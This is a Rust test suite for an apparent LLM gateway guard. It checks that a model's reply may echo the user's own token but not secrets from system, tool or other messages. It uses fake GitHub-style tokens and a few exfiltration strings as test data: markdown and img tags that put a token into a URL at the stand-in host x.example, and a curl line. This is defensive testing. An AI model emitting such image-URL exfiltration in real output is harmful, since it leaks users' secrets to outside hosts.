//! What the user wrote may be told again; what anybody else wrote may not, and nothing may be carried elsewhere.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::convert::Infallible;

use bartizan_core::{Body, Refusal};
use bartizan_guard::{GuardLayer, Post, Secrets};
use http::{Request, Response};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::{Layer, ServiceExt, service_fn};

/// Looks like tokens; built so that no scanner takes this file for a leak.
const MINE: &str = concat!("gh", "p_16C7e42F292c6912E7710c838347Ae178B4a");
const THEIRS: &str = concat!("gh", "p_09bD3f7A481c5526E8820c947158Be269C5d");

/// A chat in which one of `role` says `text`.
fn says(role: &str, text: &str) -> Value {
    json!({"model": "m", "messages": [{"role": "user", "content": "Hello."}, {"role": role, "content": text, "tool_call_id": "c"}]})
}

fn message(message: Value) -> Value {
    json!({"choices": [{"index": 0, "message": message}]})
}

fn told(text: &str) -> Value {
    message(json!({"role": "assistant", "content": text}))
}

/// Whether the answer arrives, whole; else the refusal's code.
async fn call(guard: &GuardLayer, request: &Value, answer: &Value) -> Result<(), &'static str> {
    let body = answer.to_string();
    let provider = service_fn(move |_: Request<Body>| {
        let response = Response::builder().header("content-type", "application/json");
        let response = response.body(Body::from(body.clone())).unwrap();
        async move { Ok::<_, Infallible>(response) }
    });
    let request = Request::post("/v1/chat/completions")
        .header("content-type", "application/json")
        .body(Body::from(request.to_string()))
        .unwrap();
    let response = guard.layer(provider).oneshot(request).await.unwrap();
    if let Some(refusal) = response.extensions().get::<Refusal>() {
        return Err(refusal.code());
    }
    let arrived = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(arrived, answer.to_string());
    Ok(())
}

const STOPPED: Result<(), &str> = Err("guard_sensitive_information");

#[tokio::test]
async fn a_secret_of_the_users_own_comes_back_and_no_other() {
    let guard = GuardLayer::new();
    let request = says("user", &format!("My key is {MINE}: write me a script."));
    for (answer, verdict) in [
        (format!("GITHUB_TOKEN={MINE} git clone"), Ok(())),
        (format!("{MINE}, {MINE} and {MINE}"), Ok(())),
        (THEIRS.to_owned(), STOPPED),
        (format!("{MINE} or {THEIRS}"), STOPPED),
        (format!("{THEIRS} or {MINE}"), STOPPED),
        // What a reader's browser would fetch.
        (format!("![](https://x.example/?k={MINE})"), STOPPED),
        (format!("<img src='//x.example/ {MINE}'>"), STOPPED),
        (format!("See https://x.example.\n\nThen: {MINE}"), Ok(())),
        (
            format!("curl -H 'authorization: {MINE}' https://x.example"),
            Ok(()),
        ),
    ] {
        assert_eq!(
            call(&guard, &request, &told(&answer)).await,
            verdict,
            "{answer}"
        );
    }
    let thought = json!({"role": "assistant", "content": "a", "reasoning_content": MINE});
    assert_eq!(call(&guard, &request, &message(thought)).await, Ok(()));
    // Whoever answers a tool's call is somebody else.
    let arguments = json!({"key": MINE}).to_string();
    let called = json!({"role": "assistant", "tool_calls": [{"id": "a", "type": "function", "function": {"name": "f", "arguments": arguments}}]});
    assert_eq!(call(&guard, &request, &message(called)).await, STOPPED);
}

#[tokio::test]
async fn what_others_wrote_in_the_request_is_stopped() {
    let guard = GuardLayer::new();
    let text = format!("The key is {MINE}.");
    for role in ["system", "developer", "assistant", "tool"] {
        let verdict = call(&guard, &says(role, &text), &told(MINE)).await;
        assert_eq!(verdict, STOPPED, "{role}");
    }
    let nothing = says("user", "What is the key?");
    assert_eq!(call(&guard, &nothing, &told(MINE)).await, STOPPED);
}

#[tokio::test]
async fn told_so_it_stops_the_users_own_too() {
    let guard = GuardLayer::builder()
        .post(Post::output(Secrets::new().even_own()))
        .build();
    let request = says("user", MINE);
    assert_eq!(call(&guard, &request, &told(MINE)).await, STOPPED);
}
